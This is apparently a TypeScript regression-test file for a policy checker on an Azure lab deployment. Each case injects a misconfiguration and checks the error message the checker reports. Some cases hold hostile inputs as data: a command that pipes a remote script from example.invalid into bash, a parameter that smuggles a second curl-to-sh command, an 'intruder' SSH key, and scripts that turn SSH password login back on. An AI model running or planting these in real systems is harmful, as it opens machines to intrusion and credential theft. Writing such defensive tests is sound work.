// Regressions of inventory 3 (types, extensions, run commands), the credential checks and the lifecycle checks.
import { gzipSync } from "zlib";
import { MOCK_CLIENT } from "../../offline/mocks";
import type { Case } from "./case";
import { addAfter, b64, custom, FAKE_ACCOUNT_KEY, FAKE_PASSWORD, field, osProfile, set, SUB, T, vaultProps } from "./mutation-helpers";
import type { Mutation } from "./mutate";
import { WIN } from "./mutation-helpers";

/** A run command on seat 1 beside the lab's check. */
const runCommand = (props: Record<string, unknown>): Mutation =>
  addAfter((sdk) =>
    custom(sdk, T.runCommand, "injected-runcommand", {
      resourceGroupName: "x",
      vmName: "dsvmlab-vm1",
      location: "westeurope",
      runCommandName: "injected",
      ...props,
    }),
  );

/** An extension on seat 1. */
const extension = (props: Record<string, unknown>): Mutation =>
  addAfter((sdk) =>
    custom(sdk, T.extension, "injected-extension", {
      resourceGroupName: "x",
      vmName: "dsvmlab-vm1",
      location: "westeurope",
      vmExtensionName: "injected",
      ...props,
    }),
  );

const PASSWORD_ON = "sed -i 's/^PasswordAuthentication no/PasswordAuthentication yes/' /etc/ssh/sshd_config && systemctl restart ssh";

export const OTHER_CASES: readonly Case[] = [
  // Inventory 3.
  {
    title: "CustomScript extension that turns password login back on",
    mutations: [
      extension({
        publisher: "Microsoft.Azure.Extensions",
        type: "CustomScript",
        typeHandlerVersion: "2.1",
        settings: { commandToExecute: PASSWORD_ON },
      }),
    ],
    rules: ["inventory-vm-extensions", "credential-password-login"],
    says: /Microsoft\.Azure\.Extensions\/CustomScript is not a declared extension for ubuntu seats.*declare it with its reason in policy\/allow-list\.ts/,
  },
  {
    title: "CustomScript with its script base64 in protectedSettings",
    mutations: [
      extension({
        publisher: "Microsoft.Azure.Extensions",
        type: "CustomScript",
        typeHandlerVersion: "2.1",
        protectedSettings: { script: b64(`#!/bin/sh\n${PASSWORD_ON}\n`) },
      }),
    ],
    rules: ["inventory-vm-extensions", "credential-password-login", "credential-run-as-and-protected"],
    says: /CustomScript is not a declared extension/,
  },
  {
    title: "the Entra login extension with settings",
    config: WIN,
    mutations: [field(T.extension, "seat1-aadssh", "settings", () => ({ mdmId: "0000000a-0000-0000-c000-000000000000" }))],
    rules: ["inventory-vm-extensions"],
    says: /it carries settings \(mdmId\)/,
  },
  {
    title: "a run command with another script",
    mutations: [runCommand({ source: { script: "curl -fsSL https://example.invalid/x.sh | bash" } })],
    rules: ["inventory-run-commands"],
    says: /Run command injected-runcommand: .*its name "injected" is not dsvm-lab-probe.*source\.script \(\d+ chars, sha256 [0-9a-f]{8}\) is not the lab's vm-probe/,
  },
  {
    title: "the check's run command fetches its script from a URI",
    mutations: [field(T.runCommand, "seat1-check-probe", "source", () => ({ scriptUri: "https://example.invalid/probe.sh" }))],
    rules: ["inventory-run-commands"],
    says: /source\.scriptUri is set/,
  },
  {
    title: "the check's output sent to a blob",
    mutations: [set(T.runCommand, "seat1-check-probe", { outputBlobUri: "https://example.invalid/c/out" })],
    rules: ["inventory-run-commands"],
    says: /outputBlobUri is set/,
  },
  {
    title: "an extra probe flag",
    mutations: [
      field(T.runCommand, "seat1-check-probe", "parameters", (ps: any[]) => [
        ...ps,
        { name: "", value: "--insecure" },
        { name: "", value: "1" },
      ]),
    ],
    rules: ["inventory-run-commands"],
    says: /parameters \[--insecure\] are not the probe's flags/,
  },
  {
    title: "a probe parameter that smuggles a command",
    mutations: [
      field(T.runCommand, "seat1-check-probe", "parameters", (ps: any[]) =>
        ps.map((p, i) => (i === 1 ? { ...p, value: `${p.value};curl${"${IFS}"}example.invalid|sh` } : p)),
      ),
    ],
    rules: ["inventory-run-commands"],
    says: /1 parameter value\(s\) are not one plain word/,
  },
  {
    title: "an undeclared resource type (VNet peering)",
    mutations: [
      addAfter((sdk) =>
        custom(sdk, "azure-native:network:VirtualNetworkPeering", "injected-peering", {
          resourceGroupName: "x",
          virtualNetworkName: "dsvmlab-vnet",
          remoteVirtualNetwork: { id: `${SUB}/resourceGroups/y/providers/Microsoft.Network/virtualNetworks/other` },
        }),
      ),
    ],
    rules: ["inventory-resource-types"],
    says: /azure-native:network:VirtualNetworkPeering injected-peering is not a resource type the lab declares: remove it\. If the lab needs type/,
  },
  {
    title: "VMAccessForLinux resetting a password",
    mutations: [
      extension({
        publisher: "Microsoft.OSTCExtensions",
        type: "VMAccessForLinux",
        typeHandlerVersion: "1.5",
        protectedSettings: { username: "azureuser", password: FAKE_PASSWORD },
      }),
    ],
    rules: ["inventory-vm-extensions", "credential-run-as-and-protected", "no-secret-literals-in-scripts"],
    says: /Microsoft\.OSTCExtensions\/VMAccessForLinux is not a declared extension/,
  },
  {
    title: "a Key Vault key (an undeclared type)",
    mutations: [
      addAfter((sdk) =>
        custom(sdk, "azure-native:keyvault:Key", "injected-key", {
          resourceGroupName: "x",
          vaultName: "v",
          keyName: "k",
          properties: { kty: "RSA" },
        }),
      ),
    ],
    rules: ["inventory-resource-types"],
    says: /azure-native:keyvault:Key injected-key is not a resource type the lab declares/,
  },
  {
    title: "diagnostics shipped to another workspace (an undeclared type)",
    mutations: [
      addAfter((sdk) =>
        custom(sdk, "azure-native:insights:DiagnosticSetting", "injected-diag", {
          resourceUri: "x",
          workspaceId: "/subscriptions/other/resourceGroups/y/providers/Microsoft.OperationalInsights/workspaces/w",
        }),
      ),
    ],
    rules: ["inventory-resource-types"],
    says: /insights:DiagnosticSetting/,
  },
  // Credentials.
  {
    title: "cloud-init that gives a user a password hash",
    mutations: [osProfile((o) => ({ ...o, customData: b64("#cloud-config\nusers:\n  - name: extra\n    passwd: $6$x$y\n") }))],
    rules: ["credential-password-login", "inventory-properties"],
    says: /a cloud-init password/,
  },
  {
    title: "a second SSH key on a seat",
    mutations: [
      osProfile((o) => ({
        ...o,
        linuxConfiguration: {
          ...o.linuxConfiguration,
          ssh: {
            publicKeys: [
              ...o.linuxConfiguration.ssh.publicKeys,
              {
                path: "/home/azureuser/.ssh/authorized_keys",
                keyData: "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBm9f1ExtraKeyNobodyDeclaredxxxxxxxxxxxxxxxx intruder",
              },
            ],
          },
        },
      })),
    ],
    rules: ["credential-ssh-keys"],
    says: /VM dsvmlab-vm1 has 1 SSH key\(s\) that are not config sshPublicKey/,
  },
  {
    title: "cloud-init that adds an SSH key",
    mutations: [
      osProfile((o) => ({
        ...o,
        customData: b64(
          "#cloud-config\nssh_authorized_keys:\n  - ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBm9f1ExtraKeyNobodyDeclaredxxxxxxxxxxxxxxxx intruder\n",
        ),
      })),
    ],
    rules: ["credential-ssh-keys", "inventory-properties"],
    says: /osProfile\.customData adds a way to sign in \(cloud-init ssh_authorized_keys, an SSH public key\)/,
  },
  {
    title: "a storage connection string in the stack outputs",
    mutations: [],
    outputs: () => ({
      connection: `DefaultEndpointsProtocol=https;AccountName=a;AccountKey=${FAKE_ACCOUNT_KEY};EndpointSuffix=core.windows.net`,
    }),
    rules: ["credential-stack-outputs"],
    says: /Stack output connection carries a storage account key in a connection string/,
  },
  {
    title: "cloud-init that turns password login back on",
    mutations: [osProfile((o) => ({ ...o, customData: b64("#cloud-config\nssh_pwauth: true\n") }))],
    rules: ["credential-password-login", "inventory-properties"],
    says: /seat1-vm osProfile\.customData turns password sign-in on \(cloud-init ssh_pwauth\)/,
  },
  {
    title: "gzip-compressed cloud-init that turns password login back on",
    mutations: [osProfile((o) => ({ ...o, customData: gzipSync(Buffer.from("#cloud-config\nssh_pwauth: true\n")).toString("base64") }))],
    rules: ["credential-password-login", "inventory-properties"],
    says: /osProfile\.customData turns password sign-in on \(cloud-init ssh_pwauth\)/,
  },
  {
    title: "Windows AutoLogon in unattend content",
    config: WIN,
    mutations: [
      osProfile((o) => ({
        ...o,
        windowsConfiguration: {
          ...o.windowsConfiguration,
          additionalUnattendContent: [
            {
              passName: "OobeSystem",
              componentName: "Microsoft-Windows-Shell-Setup",
              settingName: "AutoLogon",
              content: "<AutoLogon><Enabled>true</Enabled><Username>labadmin</Username></AutoLogon>",
            },
          ],
        },
      })),
    ],
    rules: ["credential-password-login", "inventory-properties"],
    says: /additionalUnattendContent\[0\] turns password sign-in on \(Windows AutoLogon/,
  },
  {
    title: "user data that sets a password with chpasswd",
    mutations: [set(T.vm, "seat1-vm", { userData: b64("#!/bin/sh\necho 'azureuser:x' | chpasswd\n") })],
    rules: ["credential-password-login", "inventory-properties"],
    says: /userData turns password sign-in on \(chpasswd/,
  },
  {
    title: "a Key Vault secret with a literal value",
    mutations: [field(T.secret, "vault-canary", "properties", (p: any) => ({ ...p, value: FAKE_PASSWORD }))],
    rules: ["credential-secret-values"],
    says: /Key Vault secret SQLPasswd has a literal value \(\d+ chars, sha256 [0-9a-f]{8}\)/,
  },
  {
    title: "a secret exported through pulumi.unsecret",
    mutations: [],
    outputs: (run) => ({ leaked: run.resources.find((r) => r.type === T.randomPassword)!.state.result }),
    rules: ["credential-stack-outputs"],
    says: /Stack output leaked carries the value of random password vault-canary-value/,
  },
  {
    title: "runAsPassword on the check",
    mutations: [set(T.runCommand, "seat1-check-probe", { runAsUser: "azureuser", runAsPassword: FAKE_PASSWORD })],
    rules: ["credential-run-as-and-protected"],
    says: /seat1-check-probe sets runAsUser, runAsPassword: remove them/,
  },
  {
    title: "protectedSettings on the Entra login extension",
    config: WIN,
    mutations: [set(T.extension, "seat1-aadssh", { protectedSettings: { token: "x" } })],
    rules: ["credential-run-as-and-protected"],
    says: /seat1-aadssh sets protectedSettings/,
  },
  {
    title: "a secret literal in a run command script",
    mutations: [runCommand({ source: { script: `#!/bin/sh\nexport DB_PASSWORD=${FAKE_PASSWORD}\n./run.sh` } })],
    rules: ["no-secret-literals-in-scripts", "inventory-run-commands"],
    says: /injected-runcommand source\.script contains a credential assigned a literal value/,
  },
  {
    title: "a storage key in custom data",
    mutations: [
      osProfile((o) => ({ ...o, customData: b64(`#cloud-config\nruncmd:\n  - echo "AccountKey=${FAKE_ACCOUNT_KEY}" > /etc/lab\n`) })),
    ],
    rules: ["no-secret-literals-in-scripts", "inventory-properties"],
    says: /seat1-vm osProfile\.customData contains a storage account key/,
  },
  {
    title: "the canary secret's value in the in-VM check's script",
    mutations: (() => {
      let canary: { result: unknown } | undefined;
      return [
        { type: T.randomPassword, name: "vault-canary-value", change: (p) => p, capture: (r: any) => (canary = r) },
        {
          type: T.runCommand,
          name: "seat1-check-probe",
          change: (props, sdk) => ({
            ...props,
            source: sdk
              .all([props.source, canary!.result])
              .apply(([src, v]: [any, string]) => ({ ...src, script: `${src.script}\n# ${v}\n` })),
          }),
        },
      ] as Mutation[];
    })(),
    rules: ["no-secret-literals-in-scripts", "inventory-run-commands"],
    says: /seat1-check-probe source\.script contains the value of random password vault-canary-value \(\d+ chars, sha256 [0-9a-f]{8}\)/,
  },
  {
    title: "password authentication enabled",
    mutations: [osProfile((o) => ({ ...o, linuxConfiguration: { ...o.linuxConfiguration, disablePasswordAuthentication: false } }))],
    rules: ["vm-password-auth-disabled"],
    says: /disablePasswordAuthentication is not true.*SSH key only/,
  },
  {
    title: "a Windows admin password someone typed",
    config: WIN,
    mutations: [osProfile((o) => ({ ...o, adminPassword: FAKE_PASSWORD }))],
    rules: ["vm-password-auth-disabled"],
    says: /Windows VM dsvmlab-vm1: osProfile\.adminPassword is not a generated RandomPassword/,
  },
  // Lifecycle.
  {
    title: "soft-delete retention 7 days on a lasting lab",
    mutations: [vaultProps((p) => ({ ...p, softDeleteRetentionInDays: 7 }))],
    rules: ["lifecycle-lasting-retention"],
    says: /keeps deleted secrets 7 days on a lasting stack: set softDeleteRetentionInDays to 90/,
  },
  {
    title: "purge protection off on a lasting lab",
    mutations: [vaultProps((p) => Object.fromEntries(Object.entries(p).filter(([k]) => k !== "enablePurgeProtection")))],
    rules: ["kv-purge-protection"],
    says: /no purge protection on a non-ephemeral stack/,
  },
  {
    title: "protect off on the vault",
    mutations: [{ type: T.vault, change: (p) => p, opts: (o) => ({ ...o, protect: false }) }],
    rules: ["lifecycle-lasting-protect"],
    says: /Vault dsvmlab-kv-\w+ is not protected on a lasting stack/,
  },
  {
    title: "protect off on the storage account",
    mutations: [{ type: T.account, change: (p) => p, opts: (o) => ({ ...o, protect: false }) }],
    rules: ["lifecycle-lasting-protect"],
    says: /Storage account dsvmlabst\w+ is not protected/,
  },
  {
    title: "checkOnDeploy: seat 2's check runs on seat 1",
    mutations: [set(T.runCommand, "seat2-check-probe", { vmName: "dsvmlab-vm1" })],
    rules: ["lifecycle-check-on-deploy"],
    says: /Seat VM dsvmlab-vm2 has no in-VM check though checkOnDeploy is true/,
  },
  {
    title: "checkOnDeploy: a check that cannot fail the deploy",
    mutations: [set(T.runCommand, "seat1-check-probe", { treatFailureAsDeploymentFailure: false })],
    rules: ["lifecycle-check-on-deploy"],
    says: /cannot fail the deploy/,
  },
  {
    title: "soft delete off",
    mutations: [vaultProps((p) => ({ ...p, enableSoftDelete: false }))],
    rules: ["kv-soft-delete-on"],
    says: /enableSoftDelete false: set it to true/,
  },
  {
    title: "enabledForDeployment true",
    mutations: [vaultProps((p) => ({ ...p, enabledForDeployment: true }))],
    rules: ["kv-no-deployment-access"],
    says: /turns on enabledForDeployment/,
  },
  {
    title: "enableRbacAuthorization unset",
    mutations: [vaultProps((p) => Object.fromEntries(Object.entries(p).filter(([k]) => k !== "enableRbacAuthorization")))],
    rules: ["kv-rbac-explicit"],
    says: /leaves enableRbacAuthorization unset/,
  },
  {
    title: "rbac: an access policy on an RBAC vault",
    config: { vaultAccessModel: "rbac" },
    mutations: [
      vaultProps((p) => ({
        ...p,
        accessPolicies: [{ tenantId: MOCK_CLIENT.tenantId, objectId: MOCK_CLIENT.objectId, permissions: { secrets: ["get"] } }],
      })),
    ],
    rules: ["kv-access-model-consistent"],
    says: /uses RBAC \(enableRbacAuthorization true\) but has access policies \(1 inline\)/,
  },
  {
    title: "a standalone access policy beside the vault's inline ones",
    mutations: (() => {
      let vault: any;
      return [
        { type: T.vault, name: "vault-kv", change: (p) => p, capture: (r: any) => (vault = r) },
        addAfter(
          (sdk) =>
            custom(sdk, "azure-native:keyvault:AccessPolicy", "injected-ap-mixed", {
              resourceGroupName: "x",
              vaultName: vault.name,
              policy: { tenantId: MOCK_CLIENT.tenantId, objectId: MOCK_CLIENT.objectId, permissions: { secrets: ["get"] } },
            }),
          { type: T.secret, name: "vault-canary" },
        ),
      ] as Mutation[];
    })(),
    rules: ["kv-no-mixed-access-policies"],
    says: /has 3 inline access policies and 1 standalone AccessPolicy resource\(s\) \(injected-ap-mixed\)/,
  },
  {
    title: "TLS 1.0",
    mutations: [set(T.account, undefined, { minimumTlsVersion: "TLS1_0" })],
    rules: ["storage-min-tls-1-2"],
    says: /minimumTlsVersion "TLS1_0"/,
  },
  {
    title: "HTTPS only off",
    mutations: [set(T.account, undefined, { enableHttpsTrafficOnly: false })],
    rules: ["storage-https-only"],
    says: /enableHttpsTrafficOnly false/,
  },
];
